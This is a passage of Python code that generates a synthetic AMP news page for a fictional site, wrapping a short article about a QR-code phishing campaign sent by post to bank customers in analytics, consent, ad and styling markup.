        ('p', 'Security researchers say the use of physical mail is a deliberate attempt to bypass the email filters and browser warnings that catch most phishing campaigns.'),
        ('p', '"People have been trained to be suspicious of emails, but a letter on nice paper feels official," said Gabriel Moreau, a fraud analyst at Brightpath Insurance. "And on a phone, it is much harder to inspect a URL before you visit it."'),
        ('raw', '<amp-ad width="300" height="250" type="adnet" data-slot="/1234/dailybyte/amp_mid" layout="responsive"><div placeholder>Advertisement</div><div fallback></div></amp-ad>'),
        ('p', 'Quillfeather Bank said it never asks customers to verify their information by scanning a QR code, and urged anyone who received a letter to contact the bank using the phone number on the back of their card.'),
        ('p', 'The bank said it is working with postal inspectors and law enforcement to identify the source of the mailings. It did not say how the attackers obtained customers\' names and addresses.'),
    ]
    body = render(blocks, 'en')
    heads = en_headlines(rng, 12, 0.4)
    amp_boiler = ('<style amp-boilerplate>body{-webkit-animation:-amp-start 8s steps(1,end) 0s 1 normal both;-moz-animation:-amp-start 8s steps(1,end) 0s 1 normal both;-ms-animation:-amp-start 8s steps(1,end) 0s 1 normal both;animation:-amp-start 8s steps(1,end) 0s 1 normal both}'
                  '@-webkit-keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}@-moz-keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}@-ms-keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}@-o-keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}@keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}</style>'
                  '<noscript><style amp-boilerplate>body{-webkit-animation:none;-moz-animation:none;-ms-animation:none;animation:none}</style></noscript>')
    analytics = js({'vars': {'account': 'UA-DB-01'}, 'triggers': {'trackPageview': {'on': 'visible', 'request': 'pageview'},
                    **{'scroll%d' % p: {'on': 'scroll', 'scrollSpec': {'verticalBoundaries': [p]}, 'request': 'event', 'vars': {'eventCategory': 'scroll', 'eventAction': '%d%%' % p}} for p in range(5, 100, 5)}}}, indent=2)
    page = '''
<body>
<amp-analytics type="googleanalytics" id="analytics1"><script type="application/json">%s</script></amp-analytics>
<amp-consent id="consent" layout="nodisplay"><script type="application/json">{"consentInstanceId":"db-consent","consentRequired":"remote","checkConsentHref":"https://%s/consent","promptUI":"consent-ui"}</script><div id="consent-ui" class="consent-ui"><p>We use cookies to personalize content and ads and to analyze our traffic.</p><button on="tap:consent.accept">Accept</button><button on="tap:consent.reject">Reject</button></div></amp-consent>
<amp-sidebar id="sidebar" layout="nodisplay" side="left"><button on="tap:sidebar.close">Close</button>%s</amp-sidebar>
<header class="amp-header"><button on="tap:sidebar.toggle" class="menu-btn" aria-label="Menu">&#9776;</button><a href="https://www.dailybyte.example/"><amp-img src="https://%s/img/logo.png" width="160" height="32" alt="The Daily Byte"></amp-img></a></header>
<amp-ad width="320" height="50" type="adnet" data-slot="/1234/dailybyte/amp_top"><div placeholder>Advertisement</div></amp-ad>
<article class="amp-article">
<header class="amp-article-header"><div class="amp-category">Security</div><h1 class="amp-title">%s</h1>
<div class="amp-byline">By <span class="amp-author">Theo Lindqvist</span> | <time datetime="%s">February 4, 2026</time></div>
<amp-social-share type="twitter" width="40" height="40"></amp-social-share><amp-social-share type="facebook" width="40" height="40" data-param-app_id="000000"></amp-social-share><amp-social-share type="email" width="40" height="40"></amp-social-share></header>
<div class="amp-article-content">
%s
</div>
<footer class="amp-article-footer"><div class="amp-tags"><a href="/tag/phishing">Phishing</a><a href="/tag/banking">Banking</a><a href="/tag/qr-codes">QR codes</a></div></footer>
</article>
<section class="amp-related"><h2>More from The Daily Byte</h2>%s</section>
<amp-ad width="300" height="250" type="adnet" data-slot="/1234/dailybyte/amp_bottom"><div placeholder>Advertisement</div></amp-ad>
<footer class="amp-footer"><p>&copy; 2026 The Daily Byte. All rights reserved.</p><a href="%s">View non-AMP version</a></footer>
</body>''' % (
        analytics, host, mega_menu(rng, N, 'en', tag='nav'), host, esc(title), iso(pub), body,
        ''.join('<div class="amp-related-item"><a href="https://%s/%s/amp/"><amp-img src="https://%s/thumb/%s.jpg" width="120" height="80" alt=""></amp-img><h3>%s</h3></a><p>%s</p></div>' % (host, s, host, rand_id(rng, 8), esc(t), esc(tz_)) for t, tz_, s in heads),
        canon)
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s | The Daily Byte</title>' % esc(title), '<link rel="canonical" href="%s">' % canon,
        '<meta name="viewport" content="width=device-width,minimum-scale=1,initial-scale=1">',
        '<script async src="https://cdn.ampproject.example/v0.js"></script>',
        '<script async custom-element="amp-ad" src="https://cdn.ampproject.example/v0/amp-ad-0.1.js"></script>',
        '<script async custom-element="amp-analytics" src="https://cdn.ampproject.example/v0/amp-analytics-0.1.js"></script>',
        '<script async custom-element="amp-social-share" src="https://cdn.ampproject.example/v0/amp-social-share-0.1.js"></script>',
        '<script async custom-element="amp-sidebar" src="https://cdn.ampproject.example/v0/amp-sidebar-0.1.js"></script>',
        '<script async custom-element="amp-consent" src="https://cdn.ampproject.example/v0/amp-consent-0.1.js"></script>',
        news_ld(title, canon, pub, author='Theo Lindqvist', publisher='The Daily Byte', logo='https://%s/img/logo.png' % host, image='https://%s/img/qr-letter.jpg' % host),
        og_meta(title, blocks[0][1][:150], canon, 'https://%s/img/qr-letter.jpg' % host, 'The Daily Byte', pub=pub, lang='en'),
        amp_boiler,
        '<style amp-custom>%s</style>' % css_blob(rng, ['amp-header', 'amp-article', 'amp-title', 'amp-byline', 'amp-article-content', 'caption', 'amp-related', 'amp-related-item', 'amp-footer', 'amp-tags', 'consent-ui', 'menu-btn', 'mega-nav', 'mega-nav__link'], 420, media=True),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='Theo Lindqvist', language='en', canonical_url=canon, blocks=blocks, html=doc('en', head, page, html_attrs=' \u26a1'),
                layout='AMP article: amp-boilerplate and amp-custom styles, amp-analytics JSON, amp-consent, amp-sidebar menu, amp-img with caption and amp-ad inside the body, related teasers after it.')
